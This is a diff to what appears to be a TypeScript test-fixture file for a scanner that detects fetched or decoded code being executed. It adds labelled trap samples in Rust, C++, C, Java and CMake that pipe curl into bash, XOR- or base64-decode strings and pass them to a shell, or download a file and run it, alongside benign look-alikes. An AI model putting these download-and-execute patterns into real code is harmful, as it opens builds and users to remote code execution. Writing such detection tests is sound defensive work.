@@ -19,6 +19,12 @@ export const followedTraps: readonly (readonly [string, string, string, string])
   ['PowerShell', 'setup.ps1', `$c = (New-Object Net.WebClient).DownloadString('${U}')\niex $c\n`, 'runs-fetched-text'],
   ['PowerShell of a block', 'setup.ps1', `$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64}'))\n& ([scriptblock]::Create($t))\n`, 'runs-decoded-text'],
   ['a test of Foundry', 'test/Vault.t.sol', `function setUp() public {\n  string[] memory a = new string[](3);\n  a[0] = "bash"; a[1] = "-c"; a[2] = "curl -s ${U} | bash";\n  vm.ffi(a);\n}\n`, 'runs-fetched-text'],
+  ['Rust of bytes in a function', 'build.rs', `fn line() -> String { PART.iter().map(|b| (b ^ 0x5a) as char).collect() }\nfn main() {\n    let cmd = line();\n    Command::new("sh").arg("-c").arg(&cmd).spawn();\n}\n`, 'runs-decoded-text'],
+  ['Rust in pieces', 'src/a.rs', `let tool = ["cu", "rl"].concat();\nlet script = format!("{} -fsSL {} | bash", tool, "${U}");\nCommand::new("bash").args(["-c", &script]).spawn().ok();\n`, 'runs-fetched-text'],
+  ['C++', 'a.cpp', `static std::string line() {\n  std::string s;\n  for (unsigned char c : part) s += static_cast<char>(c ^ 0x5a);\n  return s;\n}\nint main() {\n  std::string cmd = line();\n  std::system(cmd.c_str());\n}\n`, 'runs-decoded-text'],
+  ['C', 'a.c', `FILE *in = popen("curl -s ${U}", "r");\nwhile (fgets(line, sizeof line, in)) system(line);\n`, 'runs-fetched-text'],
+  ['Java with a shell', 'src/B.java', `class B { static String text(String s) { return new String(Base64.getDecoder().decode(s)); }\n  static void go() { String line = text("${b64}"); new ProcessBuilder("/bin/sh", "-c", line).start(); } }\n`, 'runs-decoded-text'],
+  ['CMake', 'CMakeLists.txt', `file(DOWNLOAD ${U} "\${CMAKE_BINARY_DIR}/tool")\nexecute_process(COMMAND "\${CMAKE_BINARY_DIR}/tool")\n`, 'starts-fetched-file'],
   ['Visual Basic', 'a.vbs', `text = http.responseText\nExecuteGlobal text\n`, 'runs-fetched-text'],
 ];
 
@@ -30,5 +36,8 @@ export const followedOrdinary: readonly (readonly [string, string, string])[] = 
   ['a version in Gradle', 'build.gradle', `def version = 'git describe'.execute().text.trim()\nrepositories { maven { url = uri('https://repo.spring.io') } }\n`],
   ['a version in a shell', 'a.sh', `V=$(curl -s ${U} | jq -r .tag)\necho "$V"\nwget "https://a.example/$V.tar.gz"\neval "$(ssh-agent -s)"\n`],
   ['rows in PowerShell', 'a.ps1', `$r = Invoke-RestMethod '${U}'\nWrite-Host $r.name\nStart-Process notepad\n`],
+  ['a build script in Rust', 'build.rs', `let out = Command::new("git").args(["rev-parse", "HEAD"]).output();\nCommand::new("sh").arg("-c").arg("make").status();\n`],
+  ['a file of CMake', 'CMakeLists.txt', `file(DOWNLOAD https://a.example/CPM.cmake "\${CMAKE_BINARY_DIR}/CPM.cmake")\ninclude("\${CMAKE_BINARY_DIR}/CPM.cmake")\nexecute_process(COMMAND git describe)\n`],
+  ['a checksum in C', 'a.c', `unsigned sum(const char *p) { unsigned h = 0; while (*p) h ^= *p++; return h; }\nint main(void) { system("clear"); return sum("a"); }\n`],
   ['a contract', 'src/A.sol', `contract A { function f() public { token.transfer(msg.sender, 1); } }`],
 ];
